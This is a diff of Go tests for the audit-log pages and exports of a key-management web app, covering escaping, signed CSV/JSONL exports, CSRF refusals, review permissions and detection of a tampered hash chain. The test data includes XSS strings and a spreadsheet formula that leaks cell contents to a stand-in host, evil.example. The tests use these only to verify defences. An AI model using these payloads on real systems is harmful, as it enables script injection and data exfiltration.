+	ex := c.submit("/audit", auditExportAction(t, pages[0], "csv"), nil)
+	recs, cp := auditParseCSV(t, ex)
+	ids := auditCSVIDs(t, recs)
+	if len(ids) == 0 || ids[0] != cp.entry || f.entry(ids[0]).Action != models.ActionAuditExported {
+		t.Fatalf("the export does not start with its own audit.exported entry: %v (checkpoint %d)", ids[:min(3, len(ids))], cp.entry)
+	}
+	if !slices.Equal(ids[1:], seen) {
+		t.Fatalf("export rows %v\nwant the pages' rows %v", ids[1:], seen)
+	}
+}
+
+// ---- Rows ----
+
+func TestAuditRowDetailsShowJSONAndHash(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	id := c.masterID()
+	if r := c.with("User-Agent", "DetailsBrowser/2.0").submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {"Detail Name"}}); r.status != http.StatusSeeOther {
+		t.Fatalf("rename: %d", r.status)
+	}
+	r := c.get("/audit?action=key.renamed")
+	rows := auditRowsOf(t, r)
+	if len(rows) != 1 {
+		t.Fatalf("%d key.renamed rows, want 1", len(rows))
+	}
+	row, e := rows[0], f.entry(rows[0].ID)
+	if e.Action != models.ActionKeyRenamed || row.Action != "key.renamed" {
+		t.Fatalf("row #%d: action %q (db %q)", row.ID, row.Action, e.Action)
+	}
+	if !auditHex64.MatchString(row.Hash) || row.Hash != e.Hash {
+		t.Fatalf("row hash %q, want the entry's 64-hex hash %q", row.Hash, e.Hash)
+	}
+	if row.Details != e.Details {
+		t.Fatalf("row details %q, want %q", row.Details, e.Details)
+	}
+	var d map[string]any
+	if err := json.Unmarshal([]byte(row.Details), &d); err != nil || d["from"] != "Alice Co" || d["to"] != "Detail Name" {
+		t.Fatalf("details JSON %q (%v): want from/to names", row.Details, err)
+	}
+	if row.Target != "Detail Name" || row.TargetRef != "apikey "+id || row.UA != "DetailsBrowser/2.0" || row.IP != "127.0.0.1" {
+		t.Fatalf("row %+v", row)
+	}
+	if row.Actor != "alice@example.com" {
+		t.Fatalf("row actor %q", row.Actor)
+	}
+	// The details are inside a collapsed <details>: one per row.
+	if n := r.doc.Find(`[data-testid="audit-row"] details[data-testid="audit-details"]:not([open]) [data-testid="audit-hash"]`).Length(); n != 1 {
+		t.Fatalf("%d collapsed detail blocks with a hash, want 1", n)
+	}
+}
+
+func TestAuditEscapesUserSuppliedText(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	id := c.masterID()
+	const evil = `<script>alert(1)</script>`
+	const evilUA = `<img src=x onerror=alert(2)>`
+	if r := c.with("User-Agent", evilUA).submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {evil}}); r.status != http.StatusSeeOther {
+		t.Fatalf("rename: %d", r.status)
+	}
+	for _, tc := range []struct {
+		q       string
+		matches bool
+	}{
+		{"", true},
+		{"?target=" + url.QueryEscape("<script>"), true},
+		{"?actor=" + url.QueryEscape(`"><script>alert(3)</script>`), false},
+	} {
+		q := tc.q
+		r := c.get("/audit" + q)
+		if r.status != http.StatusOK {
+			t.Fatalf("GET /audit%s: %d", q, r.status)
+		}
+		if tc.matches {
+			if !strings.Contains(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
+				t.Fatalf("GET /audit%s: the escaped name is not on the page", q)
+			}
+			rows := auditRowsOf(t, r)
+			found := false
+			for _, row := range rows {
+				if row.Target == evil && row.UA == evilUA {
+					found = true
+				}
+			}
+			if !found {
+				t.Fatalf("GET /audit%s: no row shows the name and user agent as text", q)
+			}
+		}
+		r.doc.Find("script").Each(func(_ int, s *goquery.Selection) {
+			if strings.Contains(s.Text(), "alert(") {
+				t.Fatalf("GET /audit%s: a script element runs %q", q, s.Text())
+			}
+		})
+		if r.has(`img[onerror]`) || strings.Contains(r.body, evil) || strings.Contains(r.body, evilUA) {
+			t.Fatalf("GET /audit%s: user text is in the HTML unescaped", q)
+		}
+	}
+}
+
+// ---- Export ----
+
+type auditCheckpoint struct {
+	entry           uint64
+	hash, signature string
+}
+
+// auditParseCSV checks the export response and splits the CSV into data
+// records and the checkpoint (header and trailer must agree).
+func auditParseCSV(t *testing.T, r *resp) ([][]string, auditCheckpoint) {
+	t.Helper()
+	if r.status != http.StatusOK {
+		t.Fatalf("export: status %d\n%s", r.status, r.body)
+	}
+	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
+		t.Fatalf("export Content-Type %q, want text/csv", ct)
+	}
+	cp := auditCheckpointHeader(t, r)
+	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, `filename="keydesk-audit-`+strconv.FormatUint(cp.entry, 10)+`.csv"`) {
+		t.Fatalf("export Content-Disposition %q", cd)
+	}
+	rd := csv.NewReader(strings.NewReader(r.body))
+	rd.FieldsPerRecord = -1
+	recs, err := rd.ReadAll()
+	if err != nil {
+		t.Fatalf("export is not CSV: %v\n%s", err, r.body)
+	}
+	header := []string{"id", "time_utc", "actor_type", "actor", "actor_role", "account_id", "action", "target_type", "target_id",
+		"target_name", "ip", "user_agent", "details", "prev_hash", "hash"}
+	if len(recs) < 2 || !slices.Equal(recs[0], header) {
+		t.Fatalf("export header row %v", recs[0])
+	}
+	last := recs[len(recs)-1]
+	if len(last) != 5 || last[0] != "#checkpoint" {
+		t.Fatalf("export does not end with a #checkpoint record: %v", last)
+	}
+	if last[1] != strconv.FormatUint(cp.entry, 10) || last[2] != cp.hash || last[3] != cp.signature {
+		t.Fatalf("trailer %v does not match the header checkpoint %+v", last, cp)
+	}
+	if _, err := time.Parse(time.RFC3339Nano, last[4]); err != nil {
+		t.Fatalf("trailer time %q: %v", last[4], err)
+	}
+	data := recs[1 : len(recs)-1]
+	for _, rec := range data {
+		if len(rec) != len(header) {
+			t.Fatalf("record with %d fields: %v", len(rec), rec)
+		}
+	}
+	return data, cp
+}
+
+// auditCheckpointHeader reads X-Keydesk-Checkpoint and the other headers
+// every export carries, and checks the signature with the test audit key.
+func auditCheckpointHeader(t *testing.T, r *resp) auditCheckpoint {
+	t.Helper()
+	if cc := r.header.Get("Cache-Control"); !strings.Contains(cc, "no-store") {
+		t.Fatalf("export Cache-Control %q, want no-store", cc)
+	}
+	m := regexp.MustCompile(`^entry=(\d+); hash=([0-9a-f]{64}); signature=([0-9a-f]{64})$`).FindStringSubmatch(r.header.Get("X-Keydesk-Checkpoint"))
+	if m == nil {
+		t.Fatalf("X-Keydesk-Checkpoint %q", r.header.Get("X-Keydesk-Checkpoint"))
+	}
+	id, _ := strconv.ParseUint(m[1], 10, 64)
+	mac := hmac.New(sha256.New, testdb.AuditKey)
+	mac.Write([]byte("keydesk-audit-checkpoint:" + m[1] + ":" + m[2]))
+	if hex.EncodeToString(mac.Sum(nil)) != m[3] {
+		t.Fatal("the checkpoint signature does not verify with the audit key")
+	}
+	return auditCheckpoint{entry: id, hash: m[2], signature: m[3]}
+}
+
+func auditCSVIDs(t *testing.T, recs [][]string) []uint64 {
+	t.Helper()
+	ids := make([]uint64, len(recs))
+	for i, rec := range recs {
+		id, err := strconv.ParseUint(rec[0], 10, 64)
+		if err != nil {
+			t.Fatalf("record ID %q", rec[0])
+		}
+		ids[i] = id
+	}
+	return ids
+}
+
+func TestAuditExportCSVMatchesThePageAndIsSigned(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	id := c.masterID()
+	// Formulas in a key name and a user agent (CSV injection).
+	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
+	if r := c.with("User-Agent", "-2+3").submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {formula}}); r.status != http.StatusSeeOther {
+		t.Fatalf("rename: %d", r.status)
+	}
+	if r := c.submit("/keys", "/keys/"+id+"/rename", url.Values{"name": {"@SUM(1+1)"}}); r.status != http.StatusSeeOther {
+		t.Fatalf("rename: %d", r.status)
+	}
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 5, 1, "Name")
+	exported := func() int {
+		n := 0
+		for _, e := range f.entries() {
+			if e.Action == models.ActionAuditExported {
+				n++
+			}
+		}
+		return n
+	}
+
+	// Only POST with a CSRF token exports, and refusals write nothing.
+	if r := c.get("/audit/export?format=csv"); r.status != http.StatusMethodNotAllowed && r.status != http.StatusNotFound {
+		t.Fatalf("GET /audit/export: %d, want 405 or 404", r.status)
+	}
+	if r := c.post("/audit/export?format=csv", url.Values{}); r.status != http.StatusForbidden || strings.Contains(r.body, "#checkpoint") {
+		t.Fatalf("POST without CSRF token: %d", r.status)
+	}
+	if r := c.post("/audit/export?format=csv", url.Values{"_csrf": {"forged"}}); r.status != http.StatusForbidden {
+		t.Fatalf("POST with a wrong token: %d", r.status)
+	}
+	for _, q := range []string{"format=xml", "", "format=CSV", "format=csv&ip=nope"} {
+		if r := c.submit("/audit", "/audit/export?"+q, nil); r.status != http.StatusBadRequest || r.header.Get("X-Keydesk-Checkpoint") != "" {
+			t.Fatalf("export ?%s: status %d, want 400", q, r.status)
+		}
+	}
+	if n := exported(); n != 0 {
+		t.Fatalf("refused exports wrote %d audit.exported entries", n)
+	}
+
+	// The page's CSV form, for a filter of two actions.
+	page := c.get("/audit?action=key.renamed&action=secret.revealed")
+	pageIDs := auditIDs(auditRowsOf(t, page))
+	if len(pageIDs) < 8 {
+		t.Fatalf("fixture: %d rows", len(pageIDs))
+	}
+	action := auditExportAction(t, page, "csv")
+	r := c.submit("/audit", action, nil)
+	recs, cp := auditParseCSV(t, r)
+	if got := auditCSVIDs(t, recs); !slices.Equal(got, pageIDs) {
+		t.Fatalf("export rows %v, page rows %v", got, pageIDs)
+	}
+	for _, rec := range recs {
+		e := f.entry(auditUint(t, rec[0]))
+		if rec[6] != e.Action || rec[14] != e.Hash || rec[13] != e.PrevHash || rec[2] != e.ActorType || rec[10] != e.IP {
+			t.Fatalf("record %v does not match entry %+v", rec, e)
+		}
+		if rec[6] != "key.renamed" && rec[6] != "secret.revealed" {
+			t.Fatalf("record of action %s outside the filter", rec[6])
+		}
+	}
+	// The export is audited, and the checkpoint is its own entry.
+	head := f.entry(cp.entry)
+	if head.Action != models.ActionAuditExported || head.Hash != cp.hash || head.ActorLabel != "alice@example.com" {
+		t.Fatalf("checkpoint entry #%d: %+v", cp.entry, head)
+	}
+	var d struct {
+		Format string
+		Filter struct{ Actions []string }
+	}
+	if err := json.Unmarshal([]byte(head.Details), &d); err != nil || d.Format != "csv" || !slices.Equal(d.Filter.Actions, []string{"key.renamed", "secret.revealed"}) {
+		t.Fatalf("audit.exported details %s", head.Details)
+	}
+	if n := exported(); n != 1 {
+		t.Fatalf("%d audit.exported entries after one export", n)
+	}
+	if rows := auditRowsOf(t, c.get("/audit?action=audit.exported")); len(rows) != 1 || rows[0].ID != cp.entry {
+		t.Fatalf("the export's entry on the page: %+v", rows)
+	}
+
+	// Spreadsheet formulas are defused; the text is otherwise intact.
+	var sawFormula, sawAt, sawUA bool
+	for _, rec := range recs {
+		for i, field := range rec {
+			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
+				t.Errorf("record #%s field %s starts with a formula character: %q", rec[0], auditCSVColumn(i), field)
+			}
+		}
+		sawFormula = sawFormula || rec[9] == "'"+formula
+		sawAt = sawAt || rec[9] == "'@SUM(1+1)"
+		sawUA = sawUA || rec[11] == "'-2+3"
+	}
+	if !sawFormula || !sawAt || !sawUA {
+		t.Fatalf("formula cells not prefixed with a quote (=%v @%v UA %v)", sawFormula, sawAt, sawUA)
+	}
+}
+
+func auditCSVColumn(i int) string {
+	return []string{"id", "time_utc", "actor_type", "actor", "actor_role", "account_id", "action", "target_type", "target_id",
+		"target_name", "ip", "user_agent", "details", "prev_hash", "hash"}[i]
+}
+
+func auditUint(t *testing.T, s string) uint64 {
+	t.Helper()
+	n, err := strconv.ParseUint(s, 10, 64)
+	if err != nil {
+		t.Fatalf("not a number: %q", s)
+	}
+	return n
+}
+
+func TestAuditExportJSONLines(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 4, 1, "Name")
+	page := c.get("/audit?action=key.renamed&ip=198.51.100.7")
+	pageIDs := auditIDs(auditRowsOf(t, page))
+	if len(pageIDs) != 4 {
+		t.Fatalf("fixture: %d rows", len(pageIDs))
+	}
+	r := c.submit("/audit", auditExportAction(t, page, "jsonl"), nil)
+	if r.status != http.StatusOK {
+		t.Fatalf("status %d", r.status)
+	}
+	if ct := r.header.Get("Content-Type"); ct != "application/x-ndjson" {
+		t.Fatalf("Content-Type %q", ct)
+	}
+	cp := auditCheckpointHeader(t, r)
+	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.HasSuffix(cd, `.jsonl"`) {
+		t.Fatalf("Content-Disposition %q", cd)
+	}
+	if !strings.HasSuffix(r.body, "\n") {
+		t.Fatal("the last line is not terminated")
+	}
+	lines := strings.Split(strings.TrimSuffix(r.body, "\n"), "\n")
+	var ids []uint64
+	for _, line := range lines[:len(lines)-1] {
+		dec := json.NewDecoder(strings.NewReader(line))
+		dec.DisallowUnknownFields()
+		var e struct {
+			ID         uint64          `json:"id"`
+			Time       string          `json:"time"`
+			ActorType  string          `json:"actor_type"`
+			Actor      string          `json:"actor"`
+			ActorRole  string          `json:"actor_role"`
+			AccountID  *uint           `json:"account_id"`
+			Action     string          `json:"action"`
+			TargetType string          `json:"target_type"`
+			TargetID   string          `json:"target_id"`
+			TargetName string          `json:"target_name"`
+			IP         string          `json:"ip"`
+			UserAgent  string          `json:"user_agent"`
+			Details    json.RawMessage `json:"details"`
+			PrevHash   string          `json:"prev_hash"`
+			Hash       string          `json:"hash"`
+		}
+		if err := dec.Decode(&e); err != nil {
+			t.Fatalf("line %q: %v", line, err)
+		}
+		db := f.entry(e.ID)
+		var det map[string]any
+		if e.Action != "key.renamed" || e.Hash != db.Hash || e.IP != "198.51.100.7" || e.Actor != "alice@example.com" ||
+			json.Unmarshal(e.Details, &det) != nil || det["to"] == nil {
+			t.Fatalf("line %q does not match entry %+v", line, db)
+		}
+		ids = append(ids, e.ID)
+	}
+	if !slices.Equal(ids, pageIDs) {
+		t.Fatalf("JSONL ids %v, page %v", ids, pageIDs)
+	}
+	var trailer struct {
+		Checkpoint *struct {
+			EntryID   uint64 `json:"entry_id"`
+			HeadHash  string `json:"head_hash"`
+			Signature string `json:"signature"`
+			CreatedAt string `json:"created_at"`
+		} `json:"checkpoint"`
+	}
+	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &trailer); err != nil || trailer.Checkpoint == nil {
+		t.Fatalf("last line %q is not a checkpoint (%v)", lines[len(lines)-1], err)
+	}
+	if tc := trailer.Checkpoint; tc.EntryID != cp.entry || tc.HeadHash != cp.hash || tc.Signature != cp.signature {
+		t.Fatalf("trailer %+v, header %+v", *tc, cp)
+	}
+	if e := f.entry(cp.entry); e.Action != models.ActionAuditExported || !strings.Contains(e.Details, `"format":"jsonl"`) {
+		t.Fatalf("checkpoint entry %+v", e)
+	}
+}
+
+// TestAuditExportStreamsLargeResults pages through more than one store
+// batch (1000) and flushes while writing.
+func TestAuditExportStreamsLargeResults(t *testing.T) {
+	if testing.Short() {
+		t.Skip("short")
+	}
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 1105, 50, "N")
+	r := c.submit("/audit", "/audit/export?format=csv&action=key.renamed", nil)
+	recs, _ := auditParseCSV(t, r)
+	want := f.expect(func(e models.AuditEntry) bool { return e.Action == models.ActionKeyRenamed })
+	if got := auditCSVIDs(t, recs); !slices.Equal(got, want) {
+		t.Fatalf("export of %d renames has %d rows", len(want), len(got))
+	}
+}
+
+// ---- Reviews ----
+
+func TestAuditReviews(t *testing.T) {
+	f := newAuditFixture(t)
+	alice, bob := f.client(), f.client()
+	alice.signup("Alice Co", "alice@example.com")
+	bob.signup("Bob Co", "bob@example.com")
+	aliceActor := f.actor("alice@example.com", "198.51.100.7")
+	f.renames(aliceActor, 3, 1, "Name")
+	reviews := func() int64 {
+		var n int64
+		f.store.DB().Model(&models.AuditReview{}).Count(&n)
+		return n
+	}
+
+	r := alice.get("/audit")
+	aliceHead := f.expect(auditInTree(f.tree(aliceActor.AccountID)))[0]
+	if got := auditSquash(r.text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Not reviewed yet.") {
+		t.Fatalf("review status before any review: %q", got)
+	}
+	total := len(f.expect(auditInTree(f.tree(aliceActor.AccountID))))
+	if got := auditSquash(r.text(`[data-testid="new-since-review"]`)); got != fmt.Sprintf("%d new entries", total) {
+		t.Fatalf("new-since before any review: %q, want %d", got, total)
+	}
+	through, _ := r.doc.Find(`[data-testid="review-form"] input[name="through"]`).Attr("value")
+	if through != strconv.FormatUint(aliceHead, 10) {
+		t.Fatalf("review form through %q, want Alice's head #%d", through, aliceHead)
+	}
+	if got := auditSquash(r.text(`[data-testid="mark-reviewed"]`)); got != "Mark reviewed through #"+through {
+		t.Fatalf("review button %q", got)
+	}
+
+	// Bad input: 400 / 404, nothing recorded.
+	bobEntry := f.expect(auditInTree(f.tree(f.actor("bob@example.com", "").AccountID)))[0]
+	for _, tc := range []struct {
+		through string
+		status  int
+	}{
+		{"0", 400}, {"", 400}, {"abc", 400}, {"-1", 400}, {"1.5", 400}, {"99999999999999999999999", 400},
+		{"18446744073709551615", 400}, {"9223372036854775808", 400},
+		{strconv.FormatUint(bobEntry, 10), 404}, {strconv.FormatUint(1<<40, 10), 404},
+	} {
+		if r := alice.submit("/audit", "/audit/reviews", url.Values{"through": {tc.through}}); r.status != tc.status {
+			t.Errorf("review through %q: status %d, want %d", tc.through, r.status, tc.status)
+		}
+	}
+	if r := alice.submit("/audit", "/audit/reviews", url.Values{"through": {through}, "note": {strings.Repeat("n", 501)}}); r.status != http.StatusUnprocessableEntity {
+		t.Errorf("a 501-character note: status %d, want 422", r.status)
+	}
+	if r := alice.post("/audit/reviews", url.Values{"through": {through}}); r.status != http.StatusForbidden {
+		t.Errorf("review without CSRF token: status %d, want 403", r.status)
+	}
+	if n := reviews(); n != 0 {
+		t.Fatalf("%d reviews recorded by refused requests", n)
+	}
+
+	// The owner reviews through the head.
+	r = alice.submit("/audit", "/audit/reviews", url.Values{"through": {through}, "note": {"weekly <check>"}})
+	if r.status != http.StatusSeeOther || r.header.Get("Location") != "/audit?done=reviewed" {
+		t.Fatalf("review: status %d, Location %q", r.status, r.header.Get("Location"))
+	}
+	r = alice.get("/audit?done=reviewed")
+	if got := r.text(`main [role="status"]`); got != "Review recorded." {
+		t.Errorf("notice %q", got)
+	}
+	status := auditSquash(r.text(`[data-testid="review-status"]`))
+	if !strings.HasPrefix(status, "Last review through #"+through+" by alice@example.com (just now)") || !strings.Contains(status, "“weekly <check>”") {
+		t.Fatalf("review status %q", status)
+	}
+	if got := auditSquash(r.text(`[data-testid="new-since-review"]`)); got != "1 new entry" {
+		t.Fatalf("new since review: %q, want 1 (the review's own entry)", got)
+	}
+	if rows := auditRowsOf(t, alice.get("/audit?action=audit.reviewed")); len(rows) != 1 || rows[0].Target != "through #"+through || rows[0].Actor != "alice@example.com" {
+		t.Fatalf("the review's audit entry: %+v", rows)
+	}
+	// More activity raises the count; time passes in the status.
+	f.clock.Advance(2 * time.Hour)
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 2, 0, "Later")
+	if r := alice.login("alice@example.com", testPassword); r.status != http.StatusSeeOther {
+		t.Fatalf("login: %d", r.status)
+	}
+	r = alice.get("/audit")
+	if got := auditSquash(r.text(`[data-testid="new-since-review"]`)); got != "4 new entries" { // review, 2 renames, login
+		t.Fatalf("new since review after more activity: %q", got)
+	}
+	if got := auditSquash(r.text(`[data-testid="review-status"]`)); !strings.Contains(got, "by alice@example.com (2 hours ago)") {
+		t.Fatalf("review status later: %q", got)
+	}
+
+	// An auditor reviews the whole log; it does not count as Alice's.
+	aud := f.staffClient(models.RoleAuditor, "aud@keydesk.example")
+	r = aud.get("/audit")
+	if got := auditSquash(r.text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Not reviewed yet.") {
+		t.Fatalf("auditor sees Alice's review as theirs: %q", got)
+	}
+	audThrough, ok := r.doc.Find(`[data-testid="review-form"] input[name="through"]`).Attr("value")
+	if !ok {
+		t.Fatal("no review form for the auditor")
+	}
+	if es := f.entries(); audThrough != strconv.FormatUint(es[len(es)-1].ID, 10) {
+		t.Fatalf("auditor's review form through %s, want the global head", audThrough)
+	}
+	if r := aud.submit("/audit", "/audit/reviews", url.Values{"through": {audThrough}}); r.status != http.StatusSeeOther {
+		t.Fatalf("auditor review: %d", r.status)
+	}
+	if got := auditSquash(aud.get("/audit").text(`[data-testid="review-status"]`)); !strings.HasPrefix(got, "Last review through #"+audThrough+" by aud@keydesk.example") {
+		t.Fatalf("auditor's review status %q", got)
+	}
+	if got := auditSquash(alice.get("/audit").text(`[data-testid="review-status"]`)); !strings.Contains(got, "by alice@example.com") {
+		t.Fatalf("Alice's review status after the auditor's review: %q", got)
+	}
+
+	// Support can read the log but not mark it reviewed.
+	sup := f.staffClient(models.RoleSupport, "sup@keydesk.example")
+	r = sup.get("/audit")
+	if r.status != http.StatusOK || r.has(`[data-testid="review-form"]`) {
+		t.Fatalf("support's audit page: status %d, review form %v", r.status, r.has(`[data-testid="review-form"]`))
+	}
+	before := reviews()
+	if r := sup.submit("/audit", "/audit/reviews", url.Values{"through": {audThrough}}); r.status != http.StatusForbidden {
+		t.Fatalf("support POST /audit/reviews: %d, want 403", r.status)
+	}
+	if n := reviews(); n != before || n != 2 {
+		t.Fatalf("%d reviews after support's refused one, want 2 (Alice's and the auditor's)", n)
+	}
+}
+
+// ---- Chain status ----
+
+func TestAuditChainStatusOnThePage(t *testing.T) {
+	f := newAuditFixture(t)
+	c := f.client()
+	c.signup("Alice Co", "alice@example.com")
+	f.renames(f.actor("alice@example.com", "198.51.100.7"), 5, 1, "Name")
+	aud := f.staffClient(models.RoleAuditor, "aud@keydesk.example")
+
+	if got := c.get("/audit").text(`[data-testid="chain-status"]`); got != "Chain verification pending" {
+		t.Fatalf("before any verification: %q", got)
+	}
+	rep, err := f.store.VerifyAuditChain(auditCtx)
+	if err != nil || !rep.OK {
+		t.Fatalf("clean log: %+v %v", rep, err)
+	}
+	f.store.SetChainReport(rep)
+	want := fmt.Sprintf("✓ Chain verified through entry #%d at %s", rep.Head, rep.VerifiedAt.UTC().Format("2006-01-02 15:04 UTC"))
+	if got := auditSquash(c.get("/audit").text(`[data-testid="chain-status"]`)); got != want {
+		t.Fatalf("chain status %q, want %q", got, want)
+	}
+	if es := f.entries(); rep.Head != es[len(es)-1].ID {
+		t.Fatalf("verified head #%d, log head #%d", rep.Head, es[len(es)-1].ID)
+	}
+
+	// Someone with database rights edits entry #4.
+	f.allowTampering()
+	if err := f.store.DB().Exec("UPDATE audit_entries SET ip = ? WHERE id = 4", "10.6.6.6").Error; err != nil {
+		t.Fatal(err)
+	}
+	rep, err = f.store.VerifyAuditChain(auditCtx)
+	if err != nil || rep.OK || rep.BadEntry != 4 {
+		t.Fatalf("tampered log: %+v %v", rep, err)
+	}
+	f.store.SetChainReport(rep)
+	for who, cl := range map[string]*client{"owner": c, "auditor": aud} {
+		r := cl.get("/audit")
+		st := r.doc.Find(`[data-testid="chain-status"]`)
+		if role, _ := st.Attr("role"); role != "alert" {
+			t.Fatalf("%s: the broken chain is not an alert", who)
+		}
+		if got := auditSquash(st.Text()); !strings.HasPrefix(got, "The audit chain does not verify.") || !strings.Contains(got, "entry #4 was altered") {
+			t.Fatalf("%s: chain status %q", who, got)
+		}
+		if strings.Contains(r.body, "Chain verified") {
+			t.Fatalf("%s: the page still says verified", who)
+		}
+	}
+
+	// A deleted entry is named too.
+	if err := f.store.DB().Exec("DELETE FROM audit_entries WHERE id = 2").Error; err != nil {
+		t.Fatal(err)
+	}
+	rep, _ = f.store.VerifyAuditChain(auditCtx)
+	f.store.SetChainReport(rep)
+	if got := auditSquash(c.get("/audit").text(`[data-testid="chain-status"]`)); !strings.Contains(got, "entry #2 is missing") {
+		t.Fatalf("after deleting #2: %q", got)
+	}
+}
